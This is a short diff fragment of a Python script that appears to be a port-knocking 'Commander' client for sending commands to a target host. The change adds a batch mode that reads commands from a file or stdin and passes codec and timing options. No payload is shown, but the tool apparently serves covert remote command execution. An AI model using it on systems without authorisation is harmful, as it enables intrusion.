         except ValueError:
-            print("Knock ports must be integers")
+            print("--knock-timeout, --knock-delay and --ready-timeout must be numbers of seconds")
             sys.exit(1)
-    else:
-        knock_sequence = KNOCK_SEQUENCE  # default [7000, 8000, 9000]
 
-    commander = Commander(target_host, knock_sequence)
+        commander = Commander(target_host, knock_sequence, codec, **knock_timing)
 
-    try:
-        commander.interactive_session()
-    except Exception as e:
-        print(f"\nError: {e}")
-        sys.exit(1)
+        try:
+            if batch:
+                if batch == '-':
+                    lines = sys.stdin.readlines()
+                else:
+                    with open(batch) as f:
+                        lines = f.readlines()
+                failures = commander.batch_session(lines, results, max(window, 1))
+                sys.exit(1 if failures else 0)
+            commander.interactive_session()
+        except Exception as e:
+            print(f"\nError: {e}")
+            sys.exit(1)
 
 if __name__ == "__main__":
-    main()
\ No newline at end of file
+    main()